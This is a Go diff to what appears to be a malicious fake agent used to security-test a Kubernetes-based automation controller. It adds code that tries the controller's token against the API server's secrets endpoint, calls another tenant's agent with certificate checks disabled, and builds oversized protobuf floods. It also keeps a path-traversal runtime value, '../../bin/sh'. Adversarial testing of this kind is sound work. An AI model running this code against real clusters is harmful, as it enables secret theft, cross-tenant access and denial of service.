@@ -1,12 +1,18 @@
 package main
 
 import (
+	"bytes"
 	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/binary"
 	"errors"
 	"fmt"
 	"io"
 	"math"
 	"math/rand/v2"
+	"net/http"
+	"os"
 	"path"
 	"strings"
 	"sync"
@@ -14,8 +20,10 @@ import (
 
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/credentials"
 	"google.golang.org/grpc/metadata"
 	"google.golang.org/grpc/status"
+	"google.golang.org/protobuf/encoding/protowire"
 	googleproto "google.golang.org/protobuf/proto"
 	"google.golang.org/protobuf/types/known/timestamppb"
 
@@ -298,4 +306,153 @@ func (a *agent) lie(id string) *proto.Operation {
 		Project:         &proto.ProjectSource{Name: strings.Repeat("p", long) + "\n", Runtime: "../../bin/sh"},
 		LockHolder:      &proto.LockHolder{User: strings.Repeat("u", long), Pid: -1},
 	}
+}
+
+// callTime bounds a call to somebody else's agent.
+const callTime = 20 * time.Second
+
+// targetVariable is the address of somebody else's agent.
+const targetVariable = "FAKE_TARGET"
+
+// callAgent calls the agent at the address with the token in the file, if there is one, and prints what comes of it.
+func callAgent(ctx context.Context, args []string) error {
+	if len(args) < 1 {
+		return errors.New("usage: fakeagent call ADDRESS [TOKEN-FILE]")
+	}
+	token := ""
+	if len(args) > 1 {
+		content, err := os.ReadFile(args[1])
+		if err != nil {
+			return err
+		}
+		token = string(content)
+	}
+	fmt.Println("RESULT agent", ask(ctx, args[0], token))
+	fmt.Println("RESULT end")
+	return nil
+}
+
+// ask returns the code that the agent answers a GetInfo with.
+func ask(ctx context.Context, address, token string) string {
+	ctx, cancel := context.WithTimeout(ctx, callTime)
+	defer cancel()
+	connection, err := grpc.NewClient("passthrough:///"+address, grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{
+		// Whoever attacks does not care who answers.
+		InsecureSkipVerify: true,
+		NextProtos:         []string{"h2"},
+	})))
+	if err != nil {
+		return err.Error()
+	}
+	defer func() { _ = connection.Close() }()
+	if token != "" {
+		ctx = metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+token)
+	}
+	_, err = proto.NewAgentClient(connection).GetInfo(ctx, &proto.GetInfoRequest{}, grpc.WaitForReady(true))
+	return status.Code(err).String()
+}
+
+// steal tries the token of the controller at the API server and at somebody else's agent.
+func (a *agent) steal(token string) {
+	ctx := context.Background()
+	fmt.Println("RESULT token", len(token) > 0)
+	fmt.Println("RESULT secrets", a.get(ctx, token, "/api/v1/secrets?limit=1"))
+	fmt.Println("RESULT reviews", a.get(ctx, token, "/apis/auto.pulumi.com/v1alpha1/workspaces?limit=1"))
+	fmt.Println("RESULT agent", ask(ctx, os.Getenv(targetVariable), token))
+	fmt.Println("RESULT end")
+}
+
+// get returns the status of a request to the API server with the token.
+func (a *agent) get(ctx context.Context, token, path string) string {
+	ctx, cancel := context.WithTimeout(ctx, callTime)
+	defer cancel()
+	authorities := x509.NewCertPool()
+	certificate, err := os.ReadFile(a.options["api-ca-file"])
+	if err != nil {
+		return err.Error()
+	}
+	authorities.AppendCertsFromPEM(certificate)
+	server := "https://" + os.Getenv("KUBERNETES_SERVICE_HOST") + ":" + os.Getenv("KUBERNETES_SERVICE_PORT")
+	request, err := http.NewRequestWithContext(ctx, http.MethodGet, server+path, nil)
+	if err != nil {
+		return err.Error()
+	}
+	request.Header.Set("Authorization", "Bearer "+token)
+	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: authorities, MinVersion: tls.VersionTLS12}}}
+	response, err := client.Do(request)
+	if err != nil {
+		return err.Error()
+	}
+	_, _ = io.Copy(io.Discard, io.LimitReader(response.Body, 1<<20))
+	_ = response.Body.Close()
+	return response.Status
+}
+
+// floodSize is a little less than the largest message, so that the rest of an answer fits.
+const floodSize = proto.MaxMessageSize - 4096
+
+// flood is a message in which the repeated field of the number has as many entries as fit. Without a key they are empty.
+func flood(number protowire.Number, key func(i int) []byte) raw {
+	var message []byte
+	for i := 0; len(message) < floodSize; i++ {
+		message = protowire.AppendTag(message, number, protowire.BytesType)
+		if key == nil {
+			message = protowire.AppendBytes(message, nil)
+			continue
+		}
+		message = protowire.AppendBytes(message, key(i))
+	}
+	return message
+}
+
+// distinctKey is an entry of a map with a key that no other has.
+func distinctKey(i int) []byte {
+	entry := protowire.AppendTag(nil, 1, protowire.BytesType)
+	return protowire.AppendBytes(entry, binary.BigEndian.AppendUint32(nil, spread(i)))
+}
+
+// spread keeps every byte of the number below 128, so that a key is text.
+func spread(i int) uint32 {
+	return uint32(i&0x7f | i>>7&0x7f<<8 | i>>14&0x7f<<16 | i>>21&0x7f<<24)
+}
+
+// encodedMessage is an operation that runs, with a message of that many bytes.
+func encodedMessage(size int) raw {
+	encoded := protowire.AppendTag(nil, 3, protowire.VarintType)
+	encoded = protowire.AppendVarint(encoded, uint64(proto.OperationState_OPERATION_STATE_RUNNING))
+	encoded = protowire.AppendTag(encoded, 7, protowire.BytesType)
+	return protowire.AppendBytes(encoded, bytes.Repeat([]byte("x"), size))
+}
+
+// succeeded is the beginning of an operation that succeeded.
+func succeeded() raw {
+	encoded := protowire.AppendTag(nil, 3, protowire.VarintType)
+	return protowire.AppendVarint(encoded, uint64(proto.OperationState_OPERATION_STATE_SUCCEEDED))
+}
+
+// allowed is how large the controller lets the answer of each method be, in bytes.
+var allowed = map[string]int{
+	"GetInfo": proto.MaxInfoSize, "GetOperation": proto.MaxResultSize, "GetPlan": proto.MaxPlanPartSize,
+	"StartOperation": proto.MaxOperationSize, "WatchOperation": proto.MaxOperationSize, "CancelOperation": proto.MaxOperationSize,
+	"PushSource": proto.MaxEmptySize, "FetchSource": proto.MaxEmptySize, "PushPlan": proto.MaxEmptySize, "ForgetOperation": proto.MaxEmptySize,
+}
+
+// unknownField is the number of a field that no message has, and fieldHeader is what there is of it before its content, in bytes at most.
+const (
+	unknownField = 999
+	fieldHeader  = 6
+)
+
+// padded is the answer of the method with a field that no message has, as large as it may be.
+func padded(answer any, method string) (raw, error) {
+	encoded, err := googleproto.Marshal(answer.(googleproto.Message))
+	if err != nil {
+		return nil, err
+	}
+	size := allowed[method] - len(encoded) - fieldHeader
+	if size < 0 {
+		return nil, fmt.Errorf("the answer of %s is larger than it may be", method)
+	}
+	encoded = protowire.AppendTag(encoded, unknownField, protowire.BytesType)
+	return protowire.AppendBytes(encoded, bytes.Repeat([]byte("x"), size)), nil
 }
